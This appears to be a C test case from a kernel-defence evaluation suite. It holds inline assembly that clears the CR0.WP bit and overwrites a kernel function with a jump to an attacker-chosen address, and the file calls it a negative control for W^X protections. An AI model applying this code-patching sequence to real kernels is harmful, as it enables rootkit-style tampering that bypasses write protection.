/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A hostile program clears CR0.WP, by which even the kernel cannot write what is read-only, and writes a jump over code
 * of the kernel's. A negative control: W^X is not meant to hold up who may write control registers.
 */
#include "attacks.h"

PROGRAM(reads_cr0, "movq %cr0, %rax\n" PROGRAM_EXIT);
/* RDI: the goal; RSI: the function. */
PROGRAM(writes_code, "movq %cr0, %rax\n"
		     "andq $~0x10000, %rax\n"
		     "movq %rax, %cr0\n"
		     "movw $0xb848, (%rsi)\n"	/* movabs $goal, %rax */
		     "movq %rdi, 2(%rsi)\n"
		     "movw $0xe0ff, 10(%rsi)\n"	/* jmp *%rax */
	PROGRAM_EXIT);

static NOINLINE long tick(long value)
{
	return attack_opaque(value) + 5;
}

static bool benign(const struct attack *attack)
{
	return attack_program_run(reads_cr0, 0, 0) && tick(1) == 6;
}

static void patch(const struct attack *attack, uintptr_t slide)
{
	attack_primitive(attack);
	attack_program_run(writes_code, attack_linked_code(attack_goal) + slide, attack_linked_code(tick) + slide);
	tick(1);
}
ATTACK_BODY(patch)

ATTACK(program_cr0, .family = "writing code", .primitive = HOSTILE_PROGRAM, .knowledge = LAYOUT_KNOWN,
       .stopped_by = "layout", .about = "a program clears CR0.WP and writes code of the kernel's", .run = run,
       .benign = benign, .adaptive = adaptive);
